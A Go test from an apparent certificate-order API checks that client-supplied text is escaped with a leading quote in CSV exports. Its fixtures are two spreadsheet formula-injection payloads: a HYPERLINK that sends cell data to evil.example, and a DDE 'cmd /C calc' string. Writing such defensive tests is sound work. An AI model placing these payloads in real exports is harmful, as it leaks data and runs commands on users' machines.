package apitest

import (
	"crypto/elliptic"
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/certorder/certorder/internal/testenv"
)

// TestCSVFormulaCells: text a client chose that a spreadsheet would run
// as a formula comes out of the CSV lists as text (a leading single
// quote), while the JSON keeps it as sent.
func TestCSVFormulaCells(t *testing.T) {
	t.Parallel()
	srv := testenv.Start(t, testenv.Options{Sandbox: true})
	const altID = `=HYPERLINK("http://evil.example/?leak="&A1,"x")`
	const comment = "@SUM(1+1)*cmd|' /C calc'!A0"
	body := baseBody(testenv.CSR(t, testenv.ECKey(t, elliptic.P256()), "x"))
	body["alternative_order_id"] = altID
	body["comments"] = comment
	created := createOK(t, srv, "ssl_securesite", mustJSON(t, body))

	cell := func(path, col string) string {
		t.Helper()
		status, hdr, b := lsGet(t, srv, path, "text/csv")
		if status != http.StatusOK || hdr.Get("Content-Type") != "text/csv" {
			t.Fatalf("GET %s: %d %s", path, status, clip(b))
		}
		rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("GET %s: %v %q", path, err, rows)
		}
		i := slices.Index(rows[0], col)
		if i < 0 {
			t.Fatalf("no column %s in %q", col, rows[0])
		}
		return rows[1][i]
	}
	if got := cell("/services/v2/order/certificate", "alternative_order_id"); got != "'"+altID {
		t.Errorf("alternative_order_id cell %q, want %q", got, "'"+altID)
	}
	if got := cell("/services/v2/request", "comments"); got != "'"+comment {
		t.Errorf("comments cell %q, want %q", got, "'"+comment)
	}
	if got := cell("/services/v2/order/certificate", "id"); got != itoa(created.ID) {
		t.Errorf("id cell %q, want %d", got, created.ID)
	}
	if _, b := getOrder(t, srv, created.ID); !strings.Contains(string(b), `"alternative_order_id":"=HYPERLINK(`) {
		t.Errorf("order info does not keep the id as sent: %s", clip(b))
	}
}
